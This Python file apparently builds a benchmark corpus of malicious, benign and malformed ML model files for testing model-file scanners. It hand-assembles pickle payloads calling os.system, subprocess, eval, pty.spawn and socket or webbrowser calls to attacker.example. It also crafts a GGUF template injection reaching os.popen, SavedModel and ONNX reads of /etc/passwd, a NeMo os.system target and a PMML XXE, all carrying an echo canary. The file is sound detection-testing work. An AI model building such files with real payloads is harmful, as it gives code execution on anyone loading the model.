"""The model-file corpus: malicious techniques, benign models, malformed files, and the two speed workloads.

    benchmarks/work/model-peers-venv/corpus/bin/python benchmarks/models/corpus.py OUT [--speed]

Runs in its own virtualenv (numpy, scikit-learn, joblib, pandas, onnx, h5py, skops, safetensors, gguf, lz4), so
benign models are what those libraries really write.  PyTorch is not installed (its wheel is large): checkpoints
are written by ``pickle`` itself with PyTorch's own layout (``torch.save``'s protocol-2 ``data.pkl`` with
persistent storage ids, storages as zip members), the globals resolved through stand-in modules registered in
this process only.  Malicious payloads are harmless (``echo aispm-canary``) and nothing here is ever loaded.

Each sample is a directory ``OUT/<set>/<id>/`` holding one model (a file, or a model directory), and
``OUT/labels.json`` lists every sample with its set (malicious, benign, malformed), technique and format.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import datetime as dt
import gzip
import importlib
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import subprocess
import sys
import tarfile
import types
import zipfile
import zlib
from collections import Counter, OrderedDict
from collections.abc import Callable
from pathlib import Path
from typing import Any

CANARY = "echo aispm-canary"
MiB = 1024 * 1024
GiB = 1024 * MiB

# --- stand-in globals --------------------------------------------------------------------------------------------


_STAND_INS: list[str] = []
"""Modules registered by :func:`stand_in`, removed again by :func:`dumps` (other libraries look for ``torch``)."""


def stand_in(module: str, name: str) -> Any:
    """A function that pickles as ``module.name`` (registered in a stand-in module when the real one is absent)."""
    parts = module.split(".")
    for index in range(1, len(parts) + 1):
        prefix = ".".join(parts[:index])
        if prefix not in sys.modules:
            try:
                importlib.import_module(prefix)
                continue
            except ImportError:
                pass
            sys.modules[prefix] = types.ModuleType(prefix)
            _STAND_INS.append(prefix)
            if index > 1:
                setattr(sys.modules[".".join(parts[: index - 1])], parts[index - 1], sys.modules[prefix])
    target = sys.modules[module]
    if not hasattr(target, name):

        def never_called(*args: Any, **kwargs: Any) -> Any:
            raise RuntimeError("a stand-in is only ever pickled")

        never_called.__module__, never_called.__qualname__, never_called.__name__ = module, name, name
        setattr(target, name, never_called)
    return getattr(target, name)


def dumps(value: Any, protocol: int = 2, pickler: type[pickle.Pickler] = pickle.Pickler) -> bytes:
    """``pickle.dumps`` that removes the stand-in modules it needed afterwards."""
    buffer = io.BytesIO()
    try:
        pickler(buffer, protocol=protocol).dump(value)
    finally:
        while _STAND_INS:
            sys.modules.pop(_STAND_INS.pop(), None)
    return buffer.getvalue()


class Call:
    """Pickles as ``func(*args)`` (REDUCE)."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


def op_global(module: str, name: str) -> bytes:
    return b"c" + f"{module}\n{name}\n".encode()


def op_unicode(text: str) -> bytes:
    data = text.encode()
    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data


def reduce_call(module: str, name: str, arg: str = CANARY, protocol: int = 2) -> bytes:
    """``module.name(arg)`` hand-assembled: GLOBAL, argument tuple, REDUCE (any module name, real or not)."""
    head = b"\x80" + bytes([protocol]) if protocol >= 2 else b""
    if protocol == 0:
        return head + op_global(module, name) + b"(V" + arg.encode() + b"\ntR."
    return head + op_global(module, name) + op_unicode(arg) + b"\x85R."


# --- PyTorch checkpoints (torch.save layout) ---------------------------------------------------------------------


class _Storage:
    def __init__(self, key: str, numel: int, dtype: str = "FloatStorage") -> None:
        self.key, self.numel, self.dtype = key, numel, dtype


class _Tensor:
    def __init__(self, storage: _Storage, shape: tuple[int, ...]) -> None:
        self.storage, self.shape = storage, shape

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        stride = tuple(int(pow(1, 0)) for _ in self.shape)
        if len(self.shape) == 2:
            stride = (self.shape[1], 1)
        rebuild = stand_in("torch._utils", "_rebuild_tensor_v2")
        return rebuild, (self.storage, 0, self.shape, stride, False, OrderedDict())


class _TorchPickler(pickle.Pickler):
    def persistent_id(self, obj: Any) -> Any:
        if isinstance(obj, _Storage):
            return ("storage", stand_in("torch", obj.dtype), obj.key, "cpu", obj.numel)
        return None


def torch_state_dict(
    layers: int = 4, width: int = 16, extra: dict[str, Any] | None = None
) -> tuple[bytes, dict[str, int]]:
    """(``data.pkl``, storage key -> bytes) of a small MLP's state_dict, as torch.save writes it."""
    state: OrderedDict[str, Any] = OrderedDict()
    sizes: dict[str, int] = {}
    for index in range(layers):
        weight, bias = _Storage(str(2 * index), width * width), _Storage(str(2 * index + 1), width)
        state[f"layers.{index}.weight"] = _Tensor(weight, (width, width))
        state[f"layers.{index}.bias"] = _Tensor(bias, (width,))
        sizes[weight.key], sizes[bias.key] = 4 * width * width, 4 * width
    if extra:
        state.update(extra)
    return dumps(state, 2, _TorchPickler), sizes


def torch_zip(
    data_pkl: bytes,
    sizes: dict[str, int],
    prefix: str = "archive",
    extra: dict[str, bytes] | None = None,
    pickle_name: str = "data.pkl",
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr(f"{prefix}/{pickle_name}", data_pkl)
        archive.writestr(f"{prefix}/.format_version", b"1")
        archive.writestr(f"{prefix}/byteorder", b"little")
        for key, size in sizes.items():
            archive.writestr(f"{prefix}/data/{key}", os.urandom(min(size, 4096)) + b"\0" * max(size - 4096, 0))
        for name, data in (extra or {}).items():
            archive.writestr(f"{prefix}/{name}", data)
        archive.writestr(f"{prefix}/version", b"3\n")
        archive.writestr(f"{prefix}/.data/serialization_id", b"1234567890123456789012345678901234567890")
    return buffer.getvalue()


def benign_torch_checkpoint(layers: int = 4, width: int = 16) -> bytes:
    data, sizes = torch_state_dict(layers, width)
    return torch_zip(data, sizes)


def torch_legacy_stream(payload: bytes | None = None) -> bytes:
    """torch.save(..., _use_new_zipfile_serialization=False): magic, protocol, sys info, object, storage keys."""
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
    version = pickle.dumps(1001, protocol=2)
    sys_info = pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2
    )
    obj = payload if payload is not None else pickle.dumps({"epoch": 3, "step": 1200}, protocol=2)
    keys = pickle.dumps([], protocol=2)
    return magic + version + sys_info + obj + keys


def torch_legacy_tar(payload: bytes) -> bytes:
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2),
        "pickle": payload,
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
    }
    return tar_bytes(members)


# --- containers ----------------------------------------------------------------------------------------------


def zip_bytes(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def tar_bytes(members: dict[str, bytes], mode: str = "w") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 1_700_000_000
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npy_object(payload: bytes) -> bytes:
    """A ``.npy`` with an object dtype: numpy writes a pickle after the header."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


# --- protobufs (TensorFlow) ----------------------------------------------------------------------------------


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


def pb(number: int, payload: bytes | str | int) -> bytes:
    if isinstance(payload, int):
        return _varint(number << 3) + _varint(payload)
    data = payload.encode() if isinstance(payload, str) else payload
    return _varint((number << 3) | 2) + _varint(len(data)) + data


def tf_node(name: str, op: str, *inputs: str, attrs: tuple[bytes, ...] = ()) -> bytes:
    return pb(1, name) + pb(2, op) + b"".join(pb(3, i) for i in inputs) + b"".join(pb(5, a) for a in attrs)


def tf_const_string(name: str, value: str) -> bytes:
    tensor = pb(1, 7) + pb(2, b"") + pb(8, value)
    return tf_node(name, "Const", attrs=(pb(1, "dtype") + pb(2, pb(6, 7)), pb(1, "value") + pb(2, pb(8, tensor))))


def tf_saved_model(nodes: list[bytes], functions: list[bytes] | None = None) -> bytes:
    library = pb(2, b"".join(pb(1, f) for f in functions)) if functions else b""
    graph = b"".join(pb(1, n) for n in nodes) + library + pb(4, pb(1, 1205))
    return pb(1, 1) + pb(2, pb(1, pb(4, "serve")) + pb(2, graph))


def tf_function(name: str, *nodes: bytes) -> bytes:
    return pb(1, pb(1, name)) + b"".join(pb(3, n) for n in nodes)


def benign_saved_model() -> bytes:
    save = tf_function(
        "__inference__traced_save_42",
        tf_const_string("Const", "_temp/part"),
        tf_node("StringJoin", "StringJoin", "file_prefix", "Const:output:0"),
        tf_node("SaveV2", "SaveV2", "StringJoin:output:0"),
        tf_node("MergeV2Checkpoints", "MergeV2Checkpoints", "file_prefix"),
    )
    restore = tf_function("__inference__traced_restore_57", tf_node("RestoreV2", "RestoreV2", "file_prefix"))
    graph = [
        tf_node("x", "Placeholder"),
        tf_node("w", "VarHandleOp"),
        tf_node("mm", "MatMul", "x", "w"),
        tf_node("saver_filename", "Placeholder"),
    ]
    return tf_saved_model(graph, [save, restore])


def saved_model_dir(root: Path, graph: bytes) -> None:
    (root / "variables").mkdir(parents=True, exist_ok=True)
    (root / "saved_model.pb").write_bytes(graph)
    (root / "variables" / "variables.index").write_bytes(b"\0" * 32)
    (root / "variables" / "variables.data-00000-of-00001").write_bytes(b"\0" * 256)
    (root / "fingerprint.pb").write_bytes(pb(1, 12345))


def saved_model_text_dir(root: Path) -> None:
    """A SavedModel saved with ``as_text=True``: ``saved_model.pbtxt`` whose serving function calls a PyFunc."""
    root.mkdir(parents=True, exist_ok=True)
    (root / "saved_model.pbtxt").write_text(
        'saved_model_schema_version: 1\nmeta_graphs {\n  meta_info_def { tags: "serve" }\n  graph_def {\n'
        '    node { name: "x" op: "Placeholder" attr { key: "dtype" value { type: DT_FLOAT } } }\n'
        '    library {\n      function {\n        signature { name: "__inference_serve_3" }\n'
        '        node_def { name: "py" op: "EagerPyFunc" input: "x" attr { key: "token" value { s: "pyfunc_0" } } }\n'
        "      }\n    }\n    versions { producer: 1205 }\n  }\n}\n"
    )


# --- the corpus ------------------------------------------------------------------------------------------------

Writer = Callable[[Path], None]


def file_writer(name: str, data: bytes | Callable[[], bytes]) -> Writer:
    def write(directory: Path) -> None:
        (directory / name).write_bytes(data() if callable(data) else data)

    return write


def malicious_samples() -> list[tuple[str, str, str, Writer]]:
    """(id, technique, format, writer): one per technique, each with a harmless canary payload."""
    import numpy as np

    os_system = stand_in("os", "system")
    posix_system = stand_in("posix", "system")
    evil = pickle.dumps(Call(posix_system, CANARY), protocol=2)
    samples: list[tuple[str, str, str, Writer]] = []

    def add(sample_id: str, technique: str, fmt: str, writer: Writer) -> None:
        samples.append((sample_id, technique, fmt, writer))

    # raw pickles: callables and opcodes
    add(
        "p00-os-system-proto0",
        "os.system via GLOBAL/REDUCE, protocol 0",
        "pickle",
        file_writer("model.pkl", reduce_call("os", "system", protocol=0)),
    )
    add("p01-posix-system-proto2", "posix.system via REDUCE, protocol 2", "pickle", file_writer("model.pkl", evil))
    add(
        "p02-nt-system",
        "nt.system (Windows) via REDUCE",
        "pickle",
        file_writer("model.pkl", reduce_call("nt", "system")),
    )
    add(
        "p03-stack-global-memo",
        "STACK_GLOBAL with names through the memo, protocol 4",
        "pickle",
        file_writer("model.pkl", pickle.dumps(Call(os_system, CANARY), protocol=4)),
    )
    add(
        "p04-proto5-frames",
        "protocol 5 with frames and bytearray8",
        "pickle",
        file_writer("model.pkl", pickle.dumps([bytearray(b"x" * 70000), Call(os_system, CANARY)], protocol=5)),
    )
    add(
        "p05-subprocess-popen",
        "subprocess.Popen via REDUCE",
        "pickle",
        file_writer("model.pkl", pickle.dumps(Call(stand_in("subprocess", "Popen"), ["sh", "-c", CANARY]), protocol=2)),
    )
    add(
        "p06-subprocess-check-output",
        "subprocess.check_output",
        "pickle",
        file_writer("model.pkl", reduce_call("subprocess", "check_output")),
    )
    add(
        "p07-builtins-eval", "builtins.eval", "pickle", file_writer("model.pkl", reduce_call("builtins", "eval", "1+1"))
    )
    add(
        "p08-builtins-exec",
        "builtins.exec",
        "pickle",
        file_writer("model.pkl", reduce_call("builtins", "exec", "import os")),
    )
    add(
        "p09-getattr-import",
        "builtins.getattr(__import__('os'), 'system')",
        "pickle",
        file_writer(
            "model.pkl",
            b"\x80\x02"
            + op_global("builtins", "getattr")
            + op_global("builtins", "__import__")
            + op_unicode("os")
            + b"\x85R"
            + op_unicode("system")
            + b"\x86R"
            + op_unicode(CANARY)
            + b"\x85R.",
        ),
    )
    add("p10-runpy", "runpy._run_code", "pickle", file_writer("model.pkl", reduce_call("runpy", "_run_code")))
    add(
        "p11-importlib",
        "importlib.import_module",
        "pickle",
        file_writer("model.pkl", reduce_call("importlib", "import_module", "os")),
    )
    add(
        "p12-webbrowser",
        "webbrowser.open (exfiltration)",
        "pickle",
        file_writer("model.pkl", reduce_call("webbrowser", "open", "http://attacker.example/?k=1")),
    )
    add(
        "p13-socket",
        "socket.create_connection",
        "pickle",
        file_writer("model.pkl", reduce_call("socket", "create_connection", "attacker.example")),
    )
    add("p14-shutil-rmtree", "shutil.rmtree", "pickle", file_writer("model.pkl", reduce_call("shutil", "rmtree", "/x")))
    add("p15-pty-spawn", "pty.spawn", "pickle", file_writer("model.pkl", reduce_call("pty", "spawn", "/bin/sh")))
    add(
        "p16-timeit",
        "timeit.timeit(stmt) runs code",
        "pickle",
        file_writer("model.pkl", reduce_call("timeit", "timeit", "import os")),
    )
    add("p17-ctypes", "ctypes.CDLL", "pickle", file_writer("model.pkl", reduce_call("ctypes", "CDLL", "libc.so.6")))
    add(
        "p18-inst-opcode",
        "INST opcode (protocol 0) calling os.system",
        "pickle",
        file_writer("model.pkl", b"(S'" + CANARY.encode() + b"'\nios\nsystem\n."),
    )
    add(
        "p19-obj-opcode",
        "OBJ opcode calling os.system",
        "pickle",
        file_writer(
            "model.pkl",
            b"(" + op_global("os", "system") + b"X" + struct.pack("<I", len(CANARY)) + CANARY.encode() + b"o.",
        ),
    )
    add(
        "p36-proto1-header",
        "PROTO 1 header, which pickle.load accepts and picklers never write",
        "pickle",
        file_writer("model.bin", b"\x80\x01" + reduce_call("os", "system", protocol=0)),
    )
    add(
        "p20-newobj",
        "NEWOBJ instantiating subprocess.Popen",
        "pickle",
        file_writer("model.pkl", b"\x80\x02" + op_global("subprocess", "Popen") + op_unicode(CANARY) + b"\x85\x81."),
    )
    add(
        "p21-newobj-ex",
        "NEWOBJ_EX instantiating subprocess.Popen",
        "pickle",
        file_writer("model.pkl", b"\x80\x04" + op_global("subprocess", "Popen") + op_unicode(CANARY) + b"\x85}\x92."),
    )
    add(
        "p22-build-tampering",
        "BUILD setting attributes on an imported module",
        "pickle",
        file_writer(
            "model.pkl",
            b"\x80\x02"
            + op_global("collections", "OrderedDict")
            + b"}"
            + op_unicode("__reduce__")
            + op_global("os", "system")
            + b"sb.",
        ),
    )
    add(
        "p23-second-pickle",
        "payload in a second pickle after the first STOP",
        "pickle",
        file_writer("model.pkl", pickle.dumps({"weights": [0.1, 0.2]}, protocol=2) + evil),
    )
    add(
        "p24-unknown-gadget",
        "a callable on no denylist (allowlist needed)",
        "pickle",
        file_writer("model.pkl", reduce_call("torch._inductor.codecache", "compile_file")),
    )
    add(
        "p25-python2-builtin",
        "Python 2 __builtin__.eval",
        "pickle",
        file_writer("model.pkl", reduce_call("__builtin__", "eval", "1", protocol=0)),
    )
    add(
        "p26-copyreg-extension",
        "copyreg extension code (EXT1)",
        "pickle",
        file_writer("model.pkl", b"\x80\x02\x82\x07" + op_unicode(CANARY) + b"\x85R."),
    )
    add(
        "p27-operator-methodcaller",
        "operator.methodcaller gadget",
        "pickle",
        file_writer("model.pkl", reduce_call("operator", "methodcaller", "system")),
    )
    add(
        "p28-nested-pickle-loads",
        "pickle.loads of an embedded pickle",
        "pickle",
        file_writer(
            "model.pkl", b"\x80\x02" + op_global("pickle", "loads") + b"C" + bytes([len(evil)]) + evil + b"\x85R."
        ),
    )
    add(
        "p29-marshal-function",
        "marshal.loads + types.FunctionType",
        "pickle",
        file_writer(
            "model.pkl",
            b"\x80\x02"
            + op_global("types", "FunctionType")
            + op_global("marshal", "loads")
            + b"C\x04abcd\x85R"
            + b"}\x86R)R.",
        ),
    )
    add(
        "p30-dunder-attribute-path",
        "STACK_GLOBAL attribute path through __globals__",
        "pickle",
        file_writer(
            "model.pkl",
            b"\x80\x04" + op_unicode("collections") + op_unicode("OrderedDict.__init__.__globals__") + b"\x93.",
        ),
    )
    add(
        "p31-payload-after-large-bytes",
        "payload after a 64 MiB byte string",
        "pickle",
        file_writer(
            "model.pkl",
            lambda: (
                b"\x80\x04(\x8e"
                + struct.pack("<Q", 64 * MiB)
                + b"\0" * (64 * MiB)
                + b"0"
                + reduce_call("os", "system")[2:]
            ),
        ),
    )
    add(
        "p32-pip-main",
        "pip._internal.main (installs packages)",
        "pickle",
        file_writer("model.pkl", reduce_call("pip._internal", "main", "install")),
    )
    add(
        "p33-asyncio-subprocess",
        "asyncio.create_subprocess_shell",
        "pickle",
        file_writer("model.pkl", reduce_call("asyncio", "create_subprocess_shell")),
    )
    add("p34-extensionless", "pickle with no extension", "pickle", file_writer("weights", evil))
    add("p35-lying-extension", "pickle named .safetensors", "pickle", file_writer("model.safetensors", evil))
    # PyTorch
    data, sizes = torch_state_dict(extra={"hook": Call(posix_system, CANARY)})
    add(
        "t00-torch-zip",
        "PyTorch zip checkpoint, payload in data.pkl",
        "pytorch-zip",
        file_writer("pytorch_model.bin", torch_zip(data, sizes)),
    )
    benign_data, benign_sizes = torch_state_dict()
    add(
        "t01-torch-extra-member",
        "PyTorch zip with an extra non-standard pickle member",
        "pytorch-zip",
        file_writer("model.pt", torch_zip(benign_data, benign_sizes, extra={"extra/optimizer.pkl": evil})),
    )
    add(
        "t02-torch-renamed-prefix",
        "PyTorch zip with a renamed top-level folder",
        "pytorch-zip",
        file_writer("model.pth", torch_zip(data, sizes, prefix="resnet50_finetuned")),
    )
    add(
        "t03-torch-legacy",
        "legacy PyTorch stream format (pre-1.6)",
        "pytorch-legacy",
        file_writer("model.pt", torch_legacy_stream(evil)),
    )
    add(
        "t04-torch-legacy-tar",
        "legacy PyTorch tar format",
        "pytorch-legacy-tar",
        file_writer("model.tar", torch_legacy_tar(evil)),
    )
    add(
        "t05-torch-lying-extension",
        "PyTorch checkpoint named .h5",
        "pytorch-zip",
        file_writer("weights.h5", torch_zip(data, sizes)),
    )
    # joblib and numpy
    wrapped = pickle.dumps({"model": Call(posix_system, CANARY), "coef": np.arange(8.0)}, protocol=4)
    add("j00-joblib", "joblib file", "joblib", file_writer("model.joblib", wrapped))
    add("j01-joblib-zlib", "joblib compressed with zlib", "joblib", file_writer("model.joblib", zlib.compress(wrapped)))
    add("j02-joblib-gzip", "joblib compressed with gzip", "joblib", file_writer("model.joblib", gzip.compress(wrapped)))
    add("j03-joblib-bz2", "joblib compressed with bz2", "joblib", file_writer("model.joblib", bz2.compress(wrapped)))
    add("j04-joblib-xz", "joblib compressed with xz", "joblib", file_writer("model.joblib", lzma.compress(wrapped)))
    add(
        "j05-joblib-lzma",
        "joblib compressed with raw lzma",
        "joblib",
        file_writer("model.joblib", lzma.compress(wrapped, format=lzma.FORMAT_ALONE)),
    )
    import lz4.frame

    add(
        "j06-joblib-lz4",
        "joblib compressed with lz4",
        "joblib",
        file_writer("model.joblib", lz4.frame.compress(wrapped)),
    )
    add("n00-npy-object", "numpy .npy object array holding a pickle", "numpy", file_writer("emb.npy", npy_object(evil)))
    add(
        "n01-npz-object",
        "numpy .npz with an object array",
        "npz",
        file_writer("arrays.npz", zip_bytes({"a.npy": np_bytes(np.arange(4.0)), "b.npy": npy_object(evil)})),
    )
    # wrappers
    add("w00-gzip", "gzip-wrapped pickle", "gzip", file_writer("model.pkl.gz", gzip.compress(evil)))
    add("w01-zip", "pickle inside a zip", "zip", file_writer("bundle.zip", zip_bytes({"model/model.pkl": evil})))
    add(
        "w02-tar-gz",
        "pickle inside a tar.gz",
        "tar",
        file_writer("model.tar.gz", gzip.compress(tar_bytes({"model/model.pkl": evil, "model/README": b"hi"}))),
    )
    add(
        "w03-nested",
        "pickle in a zip in a tar in a gzip",
        "gzip",
        file_writer("release.tgz", gzip.compress(tar_bytes({"inner/bundle.zip": zip_bytes({"model.pkl": evil})}))),
    )
    # formats with code in their configuration or graph
    add(
        "k00-keras-lambda",
        "Keras .keras Lambda layer",
        "keras-v3",
        file_writer("model.keras", keras_v3(lambda_layer())),
    )
    add(
        "k01-keras-module",
        "Keras .keras layer importing os.system",
        "keras-v3",
        file_writer(
            "model.keras",
            keras_v3({"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}),
        ),
    )
    add(
        "k02-keras-h5-lambda",
        "Keras HDF5 model_config with a Lambda layer",
        "hdf5",
        lambda d: keras_h5(d / "model.h5", lambda_layer()),
    )
    add(
        "f00-saved-model-pyfunc",
        "TensorFlow SavedModel with PyFunc",
        "tf-savedmodel",
        lambda d: saved_model_dir(
            d / "export",
            tf_saved_model(
                [tf_node("x", "Placeholder")], [tf_function("__inference_serve_3", tf_node("py", "EagerPyFunc", "x"))]
            ),
        ),
    )
    add(
        "f01-saved-model-readfile",
        "TensorFlow SavedModel reading /etc/passwd",
        "tf-savedmodel",
        lambda d: saved_model_dir(
            d / "export", tf_saved_model([tf_const_string("p", "/etc/passwd"), tf_node("r", "ReadFile", "p")])
        ),
    )
    add(
        "f02-saved-model-writefile",
        "TensorFlow SavedModel writing a file",
        "tf-savedmodel",
        lambda d: saved_model_dir(
            d / "export", tf_saved_model([tf_const_string("p", "/tmp/x"), tf_node("w", "WriteFile", "p", "p")])
        ),
    )
    add(
        "f03-saved-model-text-pyfunc",
        "TensorFlow SavedModel in text format (saved_model.pbtxt) with PyFunc",
        "tf-savedmodel",
        lambda d: saved_model_text_dir(d / "export"),
    )
    add(
        "o00-onnx-external-traversal",
        "ONNX external data path escaping the directory",
        "onnx",
        lambda d: onnx_model(d / "model.onnx", location="../../../../etc/passwd"),
    )
    add(
        "o01-onnx-custom-domain",
        "ONNX operator from a custom domain",
        "onnx",
        lambda d: onnx_model(d / "model.onnx", custom_domain="com.attacker.ops"),
    )
    add(
        "g00-gguf-ssti",
        "GGUF chat template reaching os.popen (CVE-2024-34359)",
        "gguf",
        lambda d: gguf_file(
            d / "model.gguf", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('echo aispm-canary') }}"
        ),
    )
    add(
        "g01-gguf-ssti-cycler",
        "GGUF chat template via cycler globals",
        "gguf",
        lambda d: gguf_file(
            d / "model.gguf",
            "{% for m in messages %}{{ m.content }}{% endfor %}"
            "{{ cycler.__init__.__globals__.os.popen('echo aispm-canary').read() }}",
        ),
    )
    add(
        "h00-hf-auto-map", "Hugging Face directory with auto_map (trust_remote_code)", "huggingface", hf_remote_code_dir
    )
    add("s00-skops-eval", "skops schema with builtins.eval", "skops", lambda d: skops_file(d / "model.skops", "eval"))
    add(
        "s01-skops-untrusted",
        "skops schema with an untrusted type",
        "skops",
        lambda d: skops_file(d / "model.skops", "custom"),
    )
    add(
        "e00-nemo-target",
        "NeMo config _target_ os.system",
        "nemo",
        file_writer(
            "asr.nemo",
            lambda: nemo_archive(extra_config="hook:\n  _target_: os.system\n  command: echo aispm-canary\n"),
        ),
    )
    add(
        "e01-nemo-weights",
        "NeMo archive with a malicious checkpoint",
        "nemo",
        file_writer("asr.nemo", lambda: nemo_archive(weights=torch_zip(data, sizes))),
    )
    add(
        "x00-pmml-xxe",
        "PMML with an external entity (XXE)",
        "pmml",
        file_writer("model.pmml", pmml('<!DOCTYPE PMML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;")),
    )
    add(
        "x01-pmml-external-dtd",
        "PMML loading an external DTD",
        "pmml",
        file_writer("model.pmml", pmml('<!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">')),
    )
    return samples


def np_bytes(array: Any) -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=False)
    return buffer.getvalue()


# --- Keras, ONNX, GGUF, skops, NeMo, PMML ---------------------------------------------------------------------


def lambda_layer() -> dict[str, Any]:
    code = compile("lambda x: x", "<lambda>", "eval")  # compiled, never run: the bytes Keras would store
    encoded = base64.b64encode(marshal.dumps(code)).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "registered_name": None,
        "config": {
            "name": "lambda",
            "function": {"class_name": "__lambda__", "config": {"code": encoded, "defaults": None, "closure": None}},
        },
    }


def dense_layer(units: int = 8) -> dict[str, Any]:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "registered_name": None,
        "config": {"name": "dense", "units": units, "activation": "relu", "use_bias": True},
    }


def keras_config(*layers: dict[str, Any]) -> dict[str, Any]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "registered_name": None,
        "config": {
            "name": "sequential",
            "layers": [
                {
                    "module": "keras.layers",
                    "class_name": "InputLayer",
                    "registered_name": None,
                    "config": {"batch_shape": [None, 4], "name": "input"},
                },
                *layers,
            ],
        },
    }


def keras_weights_h5() -> bytes:
    import h5py
    import numpy as np

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as handle:
        handle.create_dataset("layers/dense/vars/0", data=np.zeros((4, 8), dtype="float32"))
        handle.create_dataset("layers/dense/vars/1", data=np.zeros((8,), dtype="float32"))
    return buffer.getvalue()


def keras_v3(*layers: dict[str, Any]) -> bytes:
    metadata = {"keras_version": "3.6.0", "date_saved": "2024-10-01@12:00:00"}
    return zip_bytes(
        {
            "metadata.json": json.dumps(metadata).encode(),
            "config.json": json.dumps(keras_config(*layers)).encode(),
            "model.weights.h5": keras_weights_h5(),
        }
    )


def keras_h5(path: Path, *layers: dict[str, Any]) -> None:
    import h5py
    import numpy as np

    legacy = keras_config(*layers)
    with h5py.File(path, "w") as handle:
        handle.attrs["keras_version"] = "2.15.0"
        handle.attrs["backend"] = "tensorflow"
        handle.attrs["model_config"] = json.dumps({"class_name": legacy["class_name"], "config": legacy["config"]})
        handle.create_dataset("model_weights/dense/dense/kernel:0", data=np.zeros((4, 8), dtype="float32"))


def onnx_model(
    path: Path, location: str | None = None, custom_domain: str | None = None, external: bool = False
) -> None:
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    weight = numpy_helper.from_array(np.ones((4, 4), dtype=np.float32), name="W")
    node_domain = custom_domain or ""
    node = helper.make_node("Gemm" if not custom_domain else "EvilOp", ["X", "W"], ["Y"], domain=node_domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("X", TensorProto.FLOAT, [1, 4])],
        [helper.make_tensor_value_info("Y", TensorProto.FLOAT, [1, 4])],
        [weight],
    )
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(custom_domain, 1)] if custom_domain else [])
    model = helper.make_model(graph, opset_imports=opsets, producer_name="pytorch", producer_version="2.3.0")
    if location is not None:
        tensor = model.graph.initializer[0]
        tensor.ClearField("raw_data")
        tensor.data_location = TensorProto.EXTERNAL
        entry = tensor.external_data.add()
        entry.key, entry.value = "location", location
        onnx.save_model(model, str(path))
    elif external:
        onnx.save_model(
            model,
            str(path),
            save_as_external_data=True,
            all_tensors_to_one_file=True,
            location="model.onnx.data",
            size_threshold=0,
        )
    else:
        onnx.save_model(model, str(path))


def gguf_file(path: Path, template: str) -> None:
    import gguf
    import numpy as np

    writer = gguf.GGUFWriter(str(path), "llama")
    writer.add_context_length(4096)
    writer.add_token_list([f"tok{i}".encode() for i in range(512)])
    writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.zeros((16, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def fitted_logistic() -> Any:
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    rng = np.random.default_rng(0)
    features = rng.normal(size=(60, 4))
    return LogisticRegression(max_iter=200).fit(features, (features[:, 0] > 0).astype(int))


def skops_file(path: Path, kind: str | None = None) -> None:
    import skops.io as sio

    sio.dump(fitted_logistic(), str(path))
    if kind is None:
        return
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    schema = json.loads(members["schema.json"])
    if kind == "eval":
        injected = {"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode"}
    else:
        injected = {
            "__class__": "Payload",
            "__module__": "attacker_tools.models",
            "__loader__": "ObjectNode",
            "content": {
                "__class__": "dict",
                "__module__": "builtins",
                "__loader__": "DictNode",
                "content": {},
                "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": []},
            },
        }
    schema["content"]["content"]["callback"] = injected
    members["schema.json"] = json.dumps(schema).encode()
    path.write_bytes(zip_bytes(members))


NEMO_CONFIG = """\
sample_rate: 16000
target: nemo.collections.asr.models.ctc_bpe_models.EncDecCTCModelBPE
preprocessor:
  _target_: nemo.collections.asr.modules.AudioToMelSpectrogramPreprocessor
  sample_rate: 16000
  window_size: 0.025
encoder:
  _target_: nemo.collections.asr.modules.ConformerEncoder
  feat_in: 80
  n_layers: 2
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 128
optim:
